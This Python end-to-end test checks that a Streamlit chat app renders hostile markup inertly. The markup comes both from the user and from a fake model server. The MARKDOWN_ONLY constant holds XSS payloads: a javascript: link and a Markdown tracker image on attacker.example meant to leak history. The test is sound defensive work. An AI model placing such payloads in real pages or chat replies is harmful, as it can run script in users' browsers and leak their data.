"""Hostile markup in a real browser: a message or a reply carrying script never runs, an image never loads.

The payload sets `window.__pwned` three ways (a <script>, an <img onerror>, a javascript: link) and
points a Markdown image at a tracker; the app talks to a local OpenAI-compatible server that
answers with the same payload.
"""

import re

import pytest

from tests.app.test_hostile_input import HOSTILE
from tests.e2e.test_chat_browser import send, wait_for_messages
from tests.fake_openai import FakeOpenAI

pytestmark = [pytest.mark.slow, pytest.mark.e2e]
MARKDOWN_ONLY = "![tracker](https://attacker.example/p.png?q=history) [a link](javascript:window.__pwned=3) **bold**"


def use_compatible_server(page, base_url: str) -> None:
    page.locator('[data-testid="stSelectbox"]').filter(has_text="Provider").click()
    page.get_by_role("option", name="OpenAI-compatible URL").click()
    field = page.get_by_role("textbox", name="Base URL")
    field.fill(base_url)
    field.press("Enter")
    page.locator('[data-testid="stSelectbox"]').filter(has_text=re.compile("^Model")).click()
    page.get_by_role("option", name="fake-model", exact=True).click()
    page.get_by_text("fake-model's 8,192-token window").wait_for()


def test_script_onerror_and_images_in_messages_and_replies_stay_inert(page):
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    messages = page.locator('[data-testid="stChatMessage"]')
    with FakeOpenAI() as server:
        use_compatible_server(page, server.base_url)
        for count, text in ((2, HOSTILE), (4, MARKDOWN_ONLY)):
            server.behaviour.reply = text
            send(page, text)
            wait_for_messages(page, count)
            messages.nth(count - 1).get_by_text("tracker](https://attacker.example").first.wait_for()  # the reply
            assert server.requests[-1].json()["messages"][-1]["content"] == text  # sent as typed

    assert page.evaluate("window.__pwned") is None  # nothing ran
    for index in range(4):  # the questions and the answers
        message = messages.nth(index)
        assert "tracker](https://attacker.example/p.png?q=history)" in message.inner_text()  # the image as text
        assert message.locator("script, img[onerror], iframe, object, embed").count() == 0
        hrefs = message.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href') || '')")
        assert not [href for href in hrefs if href.strip().lower().startswith("javascript:")]
    for index in (0, 1):  # with raw HTML in it, Streamlit shows the whole text as it is
        assert "<script>window.__pwned = 1</script>" in messages.nth(index).inner_text()
    for index in (2, 3):  # Markdown alone is rendered: bold is bold, the image is still text
        assert messages.nth(index).locator("strong").filter(has_text="bold").count() == 1
    assert page.locator('img[src*="attacker.example"]').count() == 0
    assert not [url for url in requested if "attacker.example" in url]  # no image fetched
